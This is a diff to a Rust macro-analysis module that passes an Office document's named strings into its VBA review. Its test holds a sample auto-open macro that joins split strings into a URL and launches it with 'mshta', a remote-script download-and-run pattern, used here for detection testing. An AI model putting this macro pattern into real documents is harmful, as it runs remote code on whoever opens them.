@@ -6,6 +6,7 @@ use std::collections::BTreeSet;
 use super::judge::{Judgement, Places};
 use super::program::{Part, Program};
 use super::project::Sort;
+use crate::formats::office::strings::NamedString;
 use crate::knowledge::vba::{Deed, TriggerKind};
 
 /// A module to be reviewed.
@@ -97,11 +98,12 @@ const MAX_TRIGGERS: usize = 64;
 /// Texts marked.
 const MAX_TEXTS: usize = 2_000;
 
-/// Reviews the modules of one program.
-pub fn review(sources: &[Source<'_>]) -> Review {
+/// Reviews the modules of one program; `strings` is what the document keeps outside them.
+pub fn review(sources: &[Source<'_>], strings: &[NamedString]) -> Review {
     let parts: Vec<Part<'_>> =
         sources.iter().map(|source| Part { name: source.name, sort: source.sort, source: source.text }).collect();
-    let program = Program::new(&parts);
+    let strings = strings.iter().map(|string| (string.name.to_lowercase(), string.value.clone())).collect();
+    let program = Program::with(&parts, &strings);
     let judgement = Judgement::new(&program, Places::ModuleAndLine);
     let mut marks = Vec::new();
     for trigger in &judgement.triggers {
@@ -190,7 +192,7 @@ mod tests {
             sort: None,
             text: "Sub AutoOpen()\n  Go\nEnd Sub\nSub Go()\n  u = \"ht\" & \"tp://example.com/\"\n  Shell \"mshta \" & u\nEnd Sub\n",
         };
-        let review = review(&[source]);
+        let review = review(&[source], &[]);
         let ways: Vec<String> = review
             .ways
             .iter()
@@ -208,6 +210,6 @@ mod tests {
     #[test]
     fn honest_code_has_no_marks() {
         let text = "Sub Sum()\n  Range(\"A1\").Value = 1\nEnd Sub\n";
-        assert_eq!(review(&[Source { name: "M", sort: None, text }]), Review::default());
+        assert_eq!(review(&[Source { name: "M", sort: None, text }], &[]), Review::default());
     }
 }
